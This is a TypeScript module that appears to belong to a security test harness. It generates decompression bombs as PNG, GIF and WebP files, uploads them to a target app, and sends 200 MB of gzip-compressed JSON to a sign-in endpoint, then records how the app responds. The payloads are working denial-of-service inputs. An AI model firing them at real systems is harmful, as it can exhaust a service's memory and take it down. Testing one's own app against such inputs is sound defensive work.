import { gzipSync } from 'node:zlib';
import { type Attack, attackerAddress, countAnswer, PAGE_ADDRESS } from './attack.ts';
import { send, sendPicture } from './client.ts';
import { emptyGif, monochromePng, pngWithText, solidWebp } from './pictures.ts';

const MB = 1024 * 1024;
/** Each bomb is sent this often, from different addresses. */
const ROUNDS = 3;

type Bomb = { name: string; type: string; bytes: Buffer };

export const decompressionBombs: Attack = {
  title: 'decompression bombs as pictures and as request bodies',
  async prepare(): Promise<Bomb[]> {
    return [
      { name: 'PNG of 60,000 × 60,000', type: 'image/png', bytes: await monochromePng(60_000, 60_000) },
      { name: 'PNG of 20,000 × 20,000', type: 'image/png', bytes: await monochromePng(20_000, 20_000) },
      { name: 'PNG with 200 MB of text', type: 'image/png', bytes: await pngWithText(200 * MB) },
      { name: 'GIF of 65,535 × 65,535', type: 'image/gif', bytes: emptyGif(65_535, 65_535) },
      { name: 'WebP of 10,000 × 10,000', type: 'image/webp', bytes: await solidWebp(10_000) },
    ];
  },
  async run({ target, tally, signal, prepared }) {
    for (const [index, bomb] of (prepared as Bomb[]).entries()) {
      const results = new Set<string>();
      for (let round = 0; round < ROUNDS; round++) {
        const from = attackerAddress(index * ROUNDS + round);
        const { status, body } = await sendPicture(target.url, bomb, { from, signal });
        countAnswer(tally, `upload ${status}`);
        const served =
          status === 201 ? await requestAll(target.url + JSON.parse(body.toString()).url, signal) : '';
        results.add(`${status}${served}`);
      }
      const kilobytes = Math.round(bomb.bytes.length / 1000);
      tally.notes.push(`${bomb.name} (${kilobytes} kB): ${[...results].join('; ')}`);
    }
    const status = await sendZippedBody(target.url, signal);
    countAnswer(tally, `body ${status}`);
    tally.notes.push(`JSON of 200 MB as 200 kB of gzip: ${status}`);
  },
};

/** The original and two variants, as the readers of a thread would request them. */
async function requestAll(url: string, signal: AbortSignal): Promise<string> {
  const answers: string[] = [];
  for (const query of ['', '?w=320', '?w=1920']) {
    const { status, type } = await send(url + query, { from: PAGE_ADDRESS, signal });
    answers.push(`${query || 'original'} ${status} ${type}`);
  }
  return `, served: ${answers.join(', ')}`;
}

async function sendZippedBody(url: string, signal: AbortSignal) {
  const body = gzipSync(Buffer.alloc(200 * MB, ' '));
  const headers = { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' };
  const options = { from: attackerAddress(0), signal, method: 'POST', headers, body };
  return (await send(`${url}/api/auth/sign-in`, options)).status;
}
